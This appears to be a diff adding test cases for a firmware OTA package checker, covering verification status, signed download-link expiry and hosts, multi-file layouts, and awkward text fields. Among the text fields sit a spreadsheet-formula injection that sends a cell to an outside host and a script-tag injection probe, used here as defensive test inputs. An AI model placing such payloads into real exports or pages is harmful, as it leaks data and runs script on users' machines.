@@ -1,0 +1,138 @@
+import type { FleetFile, FleetPackage, LinkPlan, MultiFilesShape } from './fleet.ts';
+import { madeUpFile } from './package-builder.ts';
+
+/** One thing a user will meet: how a healthy package is changed, and which checks say so. */
+export interface CaseSpec {
+  title: string;
+  /** Check IDs of the verification and link categories that fail. */
+  checks: readonly string[];
+  change(entry: FleetPackage, nowMs: number): Partial<FleetPackage>;
+}
+
+const HOUR_MS = 3_600_000;
+const iso = (ms: number): string => new Date(ms).toISOString();
+
+function status(title: string, checks: readonly string[], status: number, verifyProgress: number): CaseSpec {
+  return { title, checks, change: () => ({ status, verifyProgress }) };
+}
+
+function verifying(
+  title: string,
+  checks: readonly string[],
+  verifyProgress: number,
+  ageHours: number,
+): CaseSpec {
+  const change = (_: FleetPackage, nowMs: number): Partial<FleetPackage> => {
+    return { status: 2, verifyProgress, utcModified: iso(nowMs - ageHours * HOUR_MS) };
+  };
+  return { title, checks, change };
+}
+
+function link(title: string, checks: readonly string[], plan: LinkPlan): CaseSpec {
+  return {
+    title,
+    checks,
+    change: ({ files }) => ({ files: files.map((file) => ({ ...file, link: plan })) }),
+  };
+}
+
+function text(title: string, change: Partial<FleetPackage>): CaseSpec {
+  return { title, checks: [], change: () => change };
+}
+
+type Version = 'V1' | 'V2' | 'V4';
+const signed = (version: Version, expiresInSeconds = 86_400): LinkPlan => ({
+  kind: 'signed',
+  version,
+  expiresInSeconds,
+});
+
+function multi(
+  title: string,
+  checks: readonly string[],
+  shape: MultiFilesShape,
+  links: readonly LinkPlan[],
+): CaseSpec {
+  const change = (entry: FleetPackage): Partial<FleetPackage> => {
+    const files = links.map((plan, at): FleetFile => {
+      return madeUpFile(`${entry.firmwareId}/${at}`, `part${at + 1}.bin`, 2_000 + 700 * at, plan);
+    });
+    return { multiFiles: shape, files };
+  };
+  return { title, checks, change };
+}
+
+const RAW_LINK = 'https://iotx-ota.oss-cn-shanghai.aliyuncs.com/ota/demo/fw.bin';
+
+export const VERIFICATION_CASES: readonly CaseSpec[] = [
+  status('unverified', ['unverified'], 0, 0),
+  status('unverified, half way', ['unverified'], 0, 50),
+  status('verification failed', ['verification-failed'], 3, 60),
+  status('verification failed at once', ['verification-failed'], 3, 0),
+  status('verification failed with progress 100', ['verification-failed', 'progress-mismatch'], 3, 100),
+  verifying('verifying since two hours, progress 0', [], 0, 2),
+  verifying('verifying since two hours, progress 55', [], 55, 2),
+  verifying('verification stalled for three days', ['verification-stalled'], 30, 72),
+  verifying('verification stalled for 25 hours', ['verification-stalled'], 90, 25),
+  status('no verification required', ['verification-waived'], -1, 0),
+  status('no verification required, progress 100', ['verification-waived'], -1, 100),
+  status('a status nobody documented', ['status-unrecognized'], 7, 0),
+  status('verified with progress 80', ['progress-mismatch'], 1, 80),
+];
+
+export const LINK_CASES: readonly CaseSpec[] = [
+  link('V1 link expired', ['url-expired'], signed('V1', -7_200)),
+  link('V2 link expired', ['url-expired'], signed('V2', -7_200)),
+  link('V4 link expired', ['url-expired'], signed('V4', -7_200)),
+  link('V1 link ends in two hours', ['url-expiring'], signed('V1', 7_200)),
+  link('V2 link ends in two hours', ['url-expiring'], signed('V2', 7_200)),
+  link('V4 link ends in two hours', ['url-expiring'], signed('V4', 7_200)),
+  link('unsigned link', ['url-unsigned'], { kind: 'unsigned' }),
+  link('no link', ['url-missing'], { kind: 'literal', url: null }),
+  link('empty link', ['url-missing'], { kind: 'literal', url: '' }),
+  link('link is no URL', ['url-unreadable'], { kind: 'literal', url: 'see the wiki' }),
+  link('expiry is no number', ['url-unreadable'], {
+    kind: 'literal',
+    url: `${RAW_LINK}?Expires=tomorrow&OSSAccessKeyId=LTAI5tOtaStoreDemoKey01&Signature=farzC8%2FVMN4HYdEtXvdiC2OevH0%3D`,
+  }),
+  link('plain http', ['url-insecure'], { kind: 'signed', version: 'V1', scheme: 'http' }),
+  link('foreign host', ['url-foreign-host'], {
+    kind: 'signed',
+    version: 'V1',
+    host: 'firmware.cdn.example.com',
+  }),
+  link('link signed with a security token', [], { kind: 'signed', version: 'V4', sts: true }),
+];
+
+export const MULTI_FILE_CASES: readonly CaseSpec[] = [
+  multi('three files, one link expired', ['url-expired'], 'flat', [
+    signed('V1'),
+    signed('V4', -60),
+    signed('V2'),
+  ]),
+  multi('two files in OtaPackageFileDTO', [], 'OtaPackageFileDTO', [signed('V1'), signed('V1')]),
+  multi('two files in MultiFiles.MultiFiles, one without link', ['url-missing'], 'MultiFiles', [
+    signed('V4'),
+    { kind: 'literal', url: null },
+  ]),
+  multi('one file, as a lone object', [], 'lone-object', [signed('V1')]),
+];
+
+export const TEXT_CASES: readonly CaseSpec[] = [
+  text('Chinese name and description', {
+    firmwareName: '智能灯固件-稳定版',
+    description: '修复 Wi-Fi 断线问题，提升稳定性',
+  }),
+  text('a description that a spreadsheet would run', {
+    description: '=HYPERLINK("https://example.com/?x="&A1,"click")',
+  }),
+  text('a description with commas, quotes and line breaks', {
+    description: 'first line, "quoted"\r\nsecond line;\twith a tab',
+  }),
+  text('a description with markup', { description: '<script>alert("fw")</script> & <b>bold</b>' }),
+  text('numbers and booleans as text', { asStrings: true }),
+  text('optional fields left out', { omit: ['FirmwareDesc', 'SrcVersion', 'Udi', 'UtcModified'] }),
+  text('single file with MultiFiles null', { emptyMultiFiles: 'null' }),
+  text('single file with MultiFiles []', { emptyMultiFiles: 'array' }),
+  text('single file with MultiFiles {}', { emptyMultiFiles: 'object' }),
+];
